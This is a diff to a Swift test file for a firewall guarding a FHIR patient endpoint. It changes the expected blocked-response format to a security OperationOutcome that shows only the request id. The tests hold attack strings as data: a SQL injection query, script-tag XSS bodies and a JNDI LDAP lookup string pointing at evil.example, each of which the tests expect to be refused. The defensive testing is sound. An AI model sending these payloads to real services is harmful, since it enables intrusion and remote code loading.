@@ -12,7 +12,9 @@ import TestSupport
         try await TestServer.run(kind) { s in
             let blocked = try await s.get("/fhir/Patient?name=%27%20OR%20%271%27%3D%271", headers: [HTTPField.Name("X-Request-ID")!: "trace-42"])
             #expect(blocked.code == 403)
-            #expect(blocked.text == #"{"error":"blocked","request_id":"trace-42"}"#)
+            // an OperationOutcome on /fhir, naming the request id and nothing about the rule
+            #expect(blocked.issueCodes == ["security"])
+            #expect(blocked.text.contains("request id trace-42") && !blocked.text.contains("sqli"))
             #expect(blocked.headers[.xContentTypeOptions] == "nosniff")
             let body = j(#"{"resourceType":"Patient","name":[{"family":"<script>alert(1)</script>"}]}"#)
             #expect(try await s.post("/fhir/Patient", body).code == 403)
@@ -36,7 +38,7 @@ import TestSupport
             let escaped = #"{"resourceType":"Patient","name":[{"family":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}"#
             let blocked = try await s.request(.post, "/fhir/Patient", body: escaped, headers: [.contentType: "application/fhir+json"])
             #expect(blocked.code == 403)
-            #expect(blocked.text.hasPrefix(#"{"error":"blocked""#))
+            #expect(blocked.issueCodes == ["security"])
             let jndi = #"{"resourceType":"Patient","name":[{"family":"\u0024{jndi:ldap://evil.example/a}"}]}"#
             #expect(try await s.request(.post, "/fhir/Patient", body: jndi, headers: [.contentType: "application/fhir+json"]).code == 403)
             #expect(try await s.get("/fhir/Patient?_total=accurate").total == 0)  // nothing was stored
